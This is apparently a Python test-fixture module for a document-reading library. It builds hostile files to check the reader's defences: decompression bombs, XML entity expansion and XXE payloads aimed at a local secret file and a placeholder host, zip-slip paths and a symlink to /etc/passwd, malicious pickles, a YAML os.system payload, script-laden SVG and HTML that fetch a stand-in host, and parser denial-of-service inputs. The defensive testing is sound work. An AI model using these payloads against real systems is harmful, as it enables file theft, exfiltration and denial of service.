"""Documents made to do harm, by kind: each is made here, none is stored.

What must come of each stands beside it: its text without what it smuggles, or one of the statuses
that say why there is none. `SMUGGLED` is what none of them may bring into a text.
"""

import gzip
import io
import json
import pickle
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from typing import NamedTuple

from sift_assets.core.records.text import ReadStatus
from sift_assets_tests.resources.readers.made_documents import (
    docx_of,
    epub_of,
    odt_of,
    pptx_of,
    xlsx_of,
    zip_of,
)
from sift_assets_tests.security.hostile_names import HOST

SMUGGLED = "SMUGGLED"
"""What stands in files of the machine and in entities: it must be in no text."""

SEEN = "Ada Varga works here."
"""What whoever opens a document sees, and so what is read."""

SPACES = b" " * 60_000_000
"""More than what may grow without a measure; some ten kilobytes when packed."""

TEXT, EMPTY = ReadStatus.TEXT, ReadStatus.EMPTY
UNREADABLE, UNSUPPORTED = ReadStatus.UNREADABLE, ReadStatus.UNSUPPORTED

HEAD = {"utf-8": "", "utf-16": "<?xml version='1.0' encoding='utf-16'?>"}
"""What a document in an encoding begins with; a check of bytes sees no `<!DOCTYPE` in UTF-16."""


MIME = "mimetype"
"""The member by which an OpenDocument file is known; it stands first, and is not compressed."""


class HostileFile(NamedTuple):
    """A file with what may come of it.

    Attributes:
        kind: What it tries.
        name: Of the file.
        data: Its content.
        may_be: How reading it may end.
    """

    kind: str
    name: str
    data: bytes
    may_be: tuple[ReadStatus, ...]


def hostile_files(secret: str) -> list[HostileFile]:
    """Return every hostile file.

    Args:
        secret: A file of the machine with `SMUGGLED` in it, which some try to read.
    """
    makers = (_bombs, _slipping, _pickles, _scripts, _denials)
    return [*_entities(secret), *(one for make in makers for one in make())]


def _bombs() -> Iterator[HostileFile]:
    members = {
        "a.docx": "word/document.xml",
        "a.xlsx": "xl/workbook.xml",
        "a.pptx": "ppt/presentation.xml",
        "a.epub": "META-INF/container.xml",
    }
    for name, member in members.items():
        yield HostileFile("zip bomb", name, zip_of({member: b"<x>" + SPACES}), (UNREADABLE,))
    bomb = zip_of({"word/document.xml": b"<x>" + SPACES})
    yield HostileFile("forged sizes", "forged.docx", _forged(bomb), (UNREADABLE, EMPTY))
    yield HostileFile(
        "nested bomb", "nested.docx", _with(docx_of([SEEN]), {"word/a.docx": bomb}), (TEXT,)
    )
    yield HostileFile("nested bomb", "nested.zip", zip_of({"a.docx": bomb}), (UNSUPPORTED,))
    yield HostileFile("nested bomb", "attached.eml", _mail_with(bomb, "a.docx"), (TEXT,))
    crowd = {f"word/{number}.xml": b"" for number in range(20_001)}
    yield HostileFile("many members", "many.docx", _with(docx_of([SEEN]), crowd), (UNREADABLE,))
    yield HostileFile("gzip bomb", "a.gz", gzip.compress(SPACES), (UNSUPPORTED,))
    yield HostileFile("stream bomb", "a.pdf", _pdf_of_spaces(), (EMPTY, UNREADABLE))
    yield HostileFile("endless pages", "pages.pdf", _pdf_in_a_ring(), (UNREADABLE, EMPTY))


def _forged(archive: bytes) -> bytes:
    """Let an archive say that its member is small, in both places where it says so."""
    real = (len(SPACES) + 3).to_bytes(4, "little")
    return archive.replace(real, (1000).to_bytes(4, "little"))


def _with(archive: bytes, more: dict[str, bytes]) -> bytes:
    """Return an archive with some members added or replaced."""
    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        members = {info.filename: opened.read(info) for info in opened.infolist()}
    return zip_of({**members, **more}, MIME if MIME in members else "")


def _mail_with(data: bytes, name: str) -> bytes:
    from email.message import EmailMessage

    mail = EmailMessage()
    mail["From"], mail["Subject"] = "ada@example.org", "A report"
    mail.set_content(SEEN)
    mail.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
    return mail.as_bytes()


def _pdf_of_spaces() -> bytes:
    packed = zlib.compress(zlib.compress(SPACES, 9), 9)
    return _pdf("<</Type/Pages/Kids[3 0 R]/Count 1>>", packed)


def _pdf_in_a_ring() -> bytes:
    return _pdf("<</Type/Pages/Kids[2 0 R 2 0 R]/Count 99999999>>", b"")


def _pdf(pages: str, stream: bytes) -> bytes:
    filters = "/Filter[/FlateDecode/FlateDecode]"
    parts = (
        "1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
        f"2 0 obj{pages}endobj",
        "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>endobj",
        f"4 0 obj<<{filters}/Length {len(stream)}>>stream",
    )
    head = "\n".join(("%PDF-1.4", *parts, "")).encode()
    return head + stream + b"\nendstream endobj\ntrailer<</Root 1 0 R>>"


def _entities(secret: str) -> Iterator[HostileFile]:
    laughs = "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10 if n else SMUGGLED}'>" for n in range(10))
    types = {
        "billion laughs": f"<!DOCTYPE x [{laughs}<!ENTITY e '&l9;'>]>",
        "quadratic blow-up": f"<!DOCTYPE x [<!ENTITY e '{SMUGGLED * 10_000}'>]>",
        "external entity": f"<!DOCTYPE x [<!ENTITY e SYSTEM 'file://{secret}'>]>",
        "entity over HTTP": f"<!DOCTYPE x [<!ENTITY e SYSTEM 'http://{HOST}/e'>]>",
        "external DTD": f"<!DOCTYPE x SYSTEM 'http://{HOST}/x.dtd'>",
        "parameter entity": f"<!DOCTYPE x [<!ENTITY % p SYSTEM 'file://{secret}'> %p;]>",
    }
    any_end = (TEXT, EMPTY, UNREADABLE)
    for number, (kind, declared) in enumerate(types.items()):
        for encoding, head in HEAD.items():
            for name, member in OFFICE.items():
                data = _declaring(name, member, f"{head}{declared}", encoding)
                yield HostileFile(kind, f"{number} {encoding} {name}", data, any_end)
        for suffix in ("xml", "svg", "html", "fb2"):
            data = f"<?xml version='1.0'?>{declared}<x><p>{SEEN} &e;</p></x>".encode()
            yield HostileFile(kind, f"{number}.{suffix}", data, any_end)


OFFICE = {
    "e.docx": "word/document.xml",
    "e.xlsx": "xl/worksheets/sheet1.xml",
    "e.pptx": "ppt/slides/slide1.xml",
    "e.odt": "content.xml",
    "e.epub": "OEBPS/c0.xhtml",
}
"""Documents that are archives, each with the member that holds its text."""


def _plain(name: str) -> bytes:
    made = {
        "docx": docx_of([SEEN]),
        "xlsx": xlsx_of({"One": [[SEEN, "b"]]}),
        "pptx": pptx_of([[SEEN]]),
        "odt": odt_of([SEEN]),
        "epub": epub_of([SEEN]),
    }
    return made[name.rpartition(".")[2]]


def _declaring(name: str, member: str, head: str, encoding: str) -> bytes:
    """Return a document whose text is preceded by a document type and refers to its entity."""
    archive = _plain(name)
    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        known = opened.namelist()
        member = member if member in known else next(n for n in known if n.endswith(".xhtml"))
        text = opened.read(member).decode()
    body = text[text.index("?>") + 2 :] if text.startswith("<?xml") else text
    told = head + body.replace(SEEN, f"{SEEN} &e;")
    return _with(archive, {member: told.encode(encoding)})


def _slipping() -> Iterator[HostileFile]:
    out = {"../../slipped.txt": b"x", "/slipped.txt": b"x", "..\\slipped.txt": b"x"}
    for name in OFFICE:
        yield HostileFile("zip slip", f"slip {name}", _with(_plain(name), out), (TEXT, UNSUPPORTED))
    yield HostileFile("zip slip", "slip.zip", zip_of(dict(out)), (UNSUPPORTED,))
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
        for name in out:
            archive.addfile(tarfile.TarInfo(name), io.BytesIO())
        link = tarfile.TarInfo("link")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(link)
    yield HostileFile("zip slip", "slip.tgz", packed.getvalue(), (UNSUPPORTED,))


class _Opening:
    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return open, ("slipped.txt", "w")


def _pickles() -> Iterator[HostileFile]:
    for protocol in (0, 4):
        data = pickle.dumps(_Opening(), protocol=protocol)
        may_be = (TEXT, UNSUPPORTED) if protocol == 0 else (UNSUPPORTED,)
        for suffix in ("pkl", "bin", "joblib"):
            yield HostileFile("pickle", f"{protocol}.{suffix}", data, may_be)
    yield HostileFile(
        "pickle", "model.npy", b"\x93NUMPY\x01\x00" + pickle.dumps([]), (UNSUPPORTED,)
    )


def _scripts() -> Iterator[HostileFile]:
    called = f"fetch('http://{HOST}/{SMUGGLED}')"
    svg = (
        f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{called}\"><script>{called}</script>"
        f"<text>{SEEN}</text><image href='http://{HOST}/{SMUGGLED}.png'/></svg>"
    )
    html = (
        f"<script>{called}</script><base href='http://{HOST}/'><body onload=\"{called}\">"
        f"<a href='javascript:{SMUGGLED}()'>{SEEN}</a><img src='http://{HOST}/{SMUGGLED}.png'>"
        f"<iframe srcdoc='{SMUGGLED}'></iframe><style>@import 'http://{HOST}/{SMUGGLED}'</style>"
    )
    escaped = f"<meta charset=utf-7><p>{SEEN}+ADw-script+AD4-alert(1)+ADw-/script+AD4-</p>"
    yield HostileFile("script", "a.svg", svg.encode(), (TEXT,))
    yield HostileFile("script", "a.html", html.encode(), (TEXT,))
    yield HostileFile("script", "seven.html", escaped.encode(), (TEXT,))
    rels = "http://schemas.openxmlformats.org"
    linked = (
        f'<Relationships xmlns="{rels}/package/2006/relationships"><Relationship Id="r1" '
        f'Type="{rels}/officeDocument/2006/relationships/attachedTemplate" '
        f'Target="http://{HOST}/t.dotm" TargetMode="External"/></Relationships>'
    )
    template = {"word/_rels/document.xml.rels": linked.encode()}
    yield HostileFile(
        "template elsewhere", "template.docx", _with(docx_of([SEEN]), template), (TEXT,)
    )


def _denials() -> Iterator[HostileFile]:
    """Yield what keeps a naive parser busy: nesting, references, and signs repeated without end."""
    bomb = "a: &a [x]\n" + "".join(
        f"b{n}: &b{n} [{', '.join([f'*b{n - 1}' if n else '*a'] * 9)}]\n" for n in range(9)
    )
    texts = {
        "bomb.yaml": bomb,
        "bomb.md": f"---\n{bomb}---\n{SEEN}",
        "object.yaml": "!!python/object/apply:os.system ['touch slipped.txt']",
        "deep.json": '{"a":' * 100_000,
        "deep.ipynb": "[" * 100_000,
        "deep.html": "<div>" * 50_000 + SEEN,
        "quoted.csv": '"a,' * 30_000,
        "brackets.md": "[[" * 50_000,
        "stops.txt": "a. " * 30_000 + '..."' * 10_000,
        "references.html": "&" * 50_000,
        "number.json": json.dumps({"a": 1}).replace("1", "9" * 50_000),
    }
    for name, text in texts.items():
        yield HostileFile("denial", name, text.encode(), (TEXT,))
    nested = b"Content-Type: multipart/mixed; boundary=x\n\n--x\n" * 1000 + SEEN.encode()
    yield HostileFile("denial", "nested.eml", nested, (TEXT, EMPTY, UNREADABLE))
    deep = b"Content-Type: message/rfc822\n\n" * 1000 + SEEN.encode()
    yield HostileFile("denial", "forwarded.eml", deep, (TEXT, EMPTY, UNREADABLE))
